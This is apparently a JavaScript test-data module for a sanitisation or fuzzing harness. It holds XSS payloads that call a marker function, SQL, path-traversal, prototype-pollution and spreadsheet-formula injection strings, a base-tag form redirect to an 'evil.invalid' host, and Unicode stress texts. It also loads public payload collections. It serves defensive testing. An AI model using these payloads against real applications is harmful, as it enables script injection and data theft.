// strings.mjs: texts that try to be more than text. All of them are ours; what runs calls pwned, which the watch reports.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'

const many = (text, n) => text.repeat(n)

/** Scripts and markup, by the class of mistake that each would find. */
const markup = [
  '<script>pwned(1)</script>',
  '<img src=x onerror=pwned(2)>',
  '"><svg/onload=pwned(3)>',
  "' autofocus onfocus='pwned(4)",
  '`onmouseover=`pwned(5)',
  '<iframe srcdoc="<script>parent.pwned(6)</script>"></iframe>',
  '<a href="javascript:pwned(7)">甲</a>',
  '[乙](javascript:pwned(8))',
  '[丙](JaVa\tScript:pwned(9))',
  '[丁](&#106;avascript&colon;pwned(10))',
  '[戊](data:text/html;base64,PHNjcmlwdD5wd25lZCgxMSk8L3NjcmlwdD4=)',
  '<javascript:pwned(12)>',
  '![图](x"onerror="pwned(13))',
  '![图](https://tracker.invalid/pixel.png)',
  '<base href="https://evil.invalid/"><form action=/steal><input name=q>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned(14)">',
  '<style>*{display:none!important}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned(15)>',
  '<noscript><p title="</noscript><img src=x onerror=pwned(16)>">',
  '<!--><img src=x onerror=pwned(17)>-->',
  ']]><script>pwned(18)</script>',
  '</textarea></title></style><script>pwned(19)</script>',
  '{{constructor.constructor("pwned(20)")()}}',
  '${pwned(21)}',
  '\\u003cscript\\u003epwned(22)\\u003c/script\\u003e',
  '&lt;script&gt;pwned(23)&lt;/script&gt;',
  'x\u2028</script><script>pwned(24)</script>',
  '<@all> <@0000000000000> <@"><img src=x onerror=pwned(25)>>',
  '[](https://example.com "onmouseover=pwned(26)")',
  '```"><img src=x onerror=pwned(27)>\n</code></pre><img src=x onerror=pwned(28)>\n```',
  '| <img src=x onerror=pwned(29)> | b |\n|---|---|\n| [x](javascript:pwned(30)) | <svg onload=pwned(31)> |',
  '<img/src=x/onerror=pwned(32)//',
  'https://example.com/"onmouseover="pwned(33)"x=',
  '//evil.invalid/ \\\\evil.invalid\\ /\\evil.invalid',
]

/** Values that programs take for something else. */
const values = ['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', 'true', '-1', '1e309', '0x7fffffff', "' OR 1=1 --", '"; DROP TABLE person; --', '../../../../etc/passwd', '%00%2e%2e%2f', '%n%s%x', '=1+1', '@SUM(A1)', '+cmd|\' /C calc\'!A0', '{"$ne":null}', '[object Object]', '{n, plural, one {#} other {#}}', '{name}', '$&$1$`', '\\', '/', '?', '#', '&', '%']

/** Texts that want more room, or another direction, than they are given. */
export const shapes = [
  many('W', 128),
  many('没', 128),
  many('﷽', 60),
  many('Z̷̧̛͎̙̗̪̬̗̫̈́̓̃̇͆̐̈́̎̅͘͠ͅ', 4),
  many('\u0e49', 1) + many('ก็็็็็็็็็', 12),
  'שלום עולם مرحبا بالعالم 12:30',
  '👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻🇨🇳',
  many('👨‍👩‍👧‍👦', 18),
  'ａｄｍｉｎ аdmin ɑdmin',
  '　全角　空格　',
  'i\u0307\u0307\u0307İıſß',
  '\u{1F9D1}\u200d\u{1F91D}\u200d',
]

/** Too long, or with characters, for names: only for texts. */
export const textsOnly = [
  many('w', 2000),
  many('> ', 60) + '深',
  many('[', 300) + many('](', 300),
  many('*_', 400),
  `\u202e${'gnp.exe'} \u2066\u2067 反向`,
  many('行\n', 120),
  `| ${many('列|', 60)}\n|${many('---|', 60)}\n| ${many('a|', 60)}`,
  `\`${many('x', 400)}\``,
]

/** own are the hostile strings of this repository that fit into a name. */
export const own = [...markup, ...values, ...shapes]

/** real returns the strings of the real test data: blns, H5SC and DOMPurify, made to call what the watch reports. */
export function real(folder) {
  const read = (name) => JSON.parse(readFileSync(join(folder, 'payloads', name), 'utf8'))
  const h5sc = read('h5sc/items.json').map((x) =>
    x.data.replace(/%(\w+)%/g, (all, what) => (what.startsWith('js_uri') ? 'javascript:alert(1)' : what.startsWith('js') ? 'alert(1)' : `https://evil.invalid/${what}`)),
  )
  const vectors = readFileSync(join(folder, 'payloads/h5sc/vectors.txt'), 'utf8').split(/<div id="\d+">/)
  const purify = read('dompurify/expect.json').map((x) => x.payload)
  return [...new Set([...read('blns/blns.json'), ...h5sc, ...vectors, ...purify])].filter((s) => s.trim() !== '')
}
